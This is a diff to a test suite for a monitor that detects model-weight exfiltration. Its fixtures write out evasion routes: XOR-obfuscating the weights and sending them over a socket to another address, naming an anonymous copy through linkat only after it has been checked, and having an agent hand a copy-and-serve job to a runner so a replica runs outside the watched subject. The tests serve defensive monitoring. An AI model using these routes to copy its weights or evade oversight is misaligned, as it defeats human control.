@@ -7,6 +7,8 @@ import assert from 'node:assert/strict';
 import { type ChildProcess, spawn } from 'node:child_process';
 import { chmodSync, existsSync, mkdirSync, readFileSync, rmdirSync, writeFileSync } from 'node:fs';
 import { request } from 'node:http';
+import { type AddressInfo, createServer } from 'node:net';
+import { networkInterfaces } from 'node:os';
 import { join } from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import { findCgroupV2Mount } from '../../daemon/cgroup.js';
@@ -19,6 +21,12 @@ const skip = monitorSkipReason();
 
 type Ev = { path?: string; how?: string; bytes?: number; share?: number; outside_subject?: boolean; match?: string };
 const ev = (a: LogRecord) => a.event as Ev;
+
+/** an IPv4 address of this host that is not loopback: "another host" as far as the rules can tell */
+function hostAddress(): string | null {
+  for (const list of Object.values(networkInterfaces())) for (const i of list ?? []) if (i.family === 'IPv4' && !i.internal) return i.address;
+  return null;
+}
 
 function script(dir: string, name: string, body: string): string {
   const p = join(dir, name);
@@ -50,7 +58,22 @@ describe('weights: the doors past open-and-mmap', { skip: skip ?? false }, () =>
     const recs = readLog(log);
     return { r, alerts: alertsOf(recs), log: recs };
   };
-  const show = (alerts: LogRecord[]) => JSON.stringify(alerts.map((a) => [a.rule, a.summary]), null, 1);
+  const show = (alerts: LogRecord[]) => JSON.stringify(alerts.filter((a) => a.category !== 'monitor.degraded').map((a) => [a.rule, a.summary]), null, 1);
+  // reads the weights, XORs every byte, and writes the result to a file or sends it to a host
+  const xor = () => {
+    const p = join(tmp.dir, 'xor.py');
+    writeFileSync(p, [
+      'import socket, sys',
+      'src, where = sys.argv[1], sys.argv[2]',
+      'table = bytes(i ^ 0x5A for i in range(256))',
+      'data = open(src, "rb").read().translate(table)',
+      'if where == "file":',
+      '    open(sys.argv[3], "wb").write(data)',
+      'else:',
+      '    s = socket.create_connection((where, int(sys.argv[3]))); s.sendall(data); s.close()',
+    ].join('\n'));
+    return p;
+  };
 
   before(() => {
     model = makeModel(join(tmp.dir, 'model'), 8);
@@ -98,7 +121,9 @@ describe('weights: the doors past open-and-mmap', { skip: skip ?? false }, () =>
       '        os.write(fd, b)',
       // the copy is matched while it has no name; it is named only after that
       'time.sleep(2.5)',
-      'os.link(f"/proc/self/fd/{fd}", dest)',
+      // linkat(AT_FDCWD, "/proc/self/fd/N", AT_FDCWD, dest, AT_SYMLINK_FOLLOW): os.link would call link()
+      'import ctypes; libc = ctypes.CDLL(None, use_errno=True)',
+      'assert libc.linkat(-100, f"/proc/self/fd/{fd}".encode(), -100, dest.encode(), 0x400) == 0, ctypes.get_errno()',
       'time.sleep(0.5)',
     ].join('\n'));
     const { alerts } = await run('tmpfile', `python3 ${copier} ${model.weights} ${dest}`);
@@ -124,6 +149,34 @@ describe('weights: the doors past open-and-mmap', { skip: skip ?? false }, () =>
       } catch {
         // a process still in it; it exits within moments and the group with it on the next run
       }
+    }
+  });
+
+  test('a derived copy (the weights encrypted into a file): weights.copy, match derived, with both byte counts', async () => {
+    const out = join(tmp.dir, 'weights.enc');
+    const { alerts } = await run('derived-file', `python3 ${xor()} ${model.weights} file ${out}; sleep 0.5`);
+    const d = alerts.find((a) => a.category === 'weights.copy' && ev(a).match === 'derived');
+    assert.ok(d, show(alerts));
+    assert.equal(ev(d).path, out);
+    assert.ok((ev(d).bytes ?? 0) >= model.size && ((d.event as { read_bytes?: number }).read_bytes ?? 0) >= model.size, JSON.stringify(d.event));
+    // not a plain copy: nothing in it matches the weights by content
+    assert.ok(!alerts.some((a) => a.category === 'weights.copy' && ev(a).match !== 'derived'), show(alerts));
+  });
+
+  test('a derived copy sent to another host: network.egress at high, with the address', { skip: hostAddress() ? false : 'needs a non-loopback address on this host' }, async () => {
+    const addr = hostAddress() as string;
+    const sink = createServer((c) => c.resume());
+    await new Promise<void>((r) => sink.listen(0, addr, r));
+    try {
+      const port = (sink.address() as AddressInfo).port;
+      const { alerts } = await run('derived-net', `python3 ${xor()} ${model.weights} ${addr} ${port}; sleep 0.5`);
+      const egress = alerts.find((a) => a.category === 'network.egress' && a.rule === 'weights-derived-egress');
+      assert.ok(egress, show(alerts));
+      assert.equal(egress.severity, 'high');
+      assert.equal((egress.event as { dest_addr?: string }).dest_addr, addr);
+      assert.equal((egress.event as { dest_port?: number }).dest_port, port);
+    } finally {
+      sink.close();
     }
   });
 
@@ -162,6 +215,7 @@ describe('weights: the doors past open-and-mmap', { skip: skip ?? false }, () =>
       }
     });
 
+    // the agent only hands the job over (and waits): the copy and the replica are the runner's
     const agent = (name: string) => {
       const copy = join(tmp.dir, `${name}-copy`);
       const portFile = join(tmp.dir, `${name}.port`);
@@ -169,10 +223,9 @@ describe('weights: the doors past open-and-mmap', { skip: skip ?? false }, () =>
       return {
         portFile,
         body: [
-          `cp -r ${model.dir} ${copy}`,
-          `echo 'exec python3 ${server()} ${join(copy, 'model.safetensors')} ${portFile} 6' > ${spool()}/${name}.tmp`,
+          `echo 'cp -r ${model.dir} ${copy} && exec python3 ${server()} ${join(copy, 'model.safetensors')} ${portFile} 6' > ${spool()}/${name}.tmp`,
           `mv ${spool()}/${name}.tmp ${spool()}/${name}.job`,
-          'sleep 3',
+          'sleep 4',
         ].join('\n'),
       };
     };
@@ -185,6 +238,8 @@ describe('weights: the doors past open-and-mmap', { skip: skip ?? false }, () =>
       assert.equal(ev(spawnAlert).outside_subject, true);
       assert.equal(spawnAlert.severity, 'critical');
       assert.equal(ev(spawnAlert).how, 'mmap');
+      // the runner's copy (its cp was gone before it could be opened) is known by its content when loaded
+      assert.equal(ev(spawnAlert).path, join(tmp.dir, 'observed-copy', 'model.safetensors'));
     });
 
     test('enforce: exit 3, the replica is stopped (SIGSTOP, not SIGTERM) and never answers', async () => {
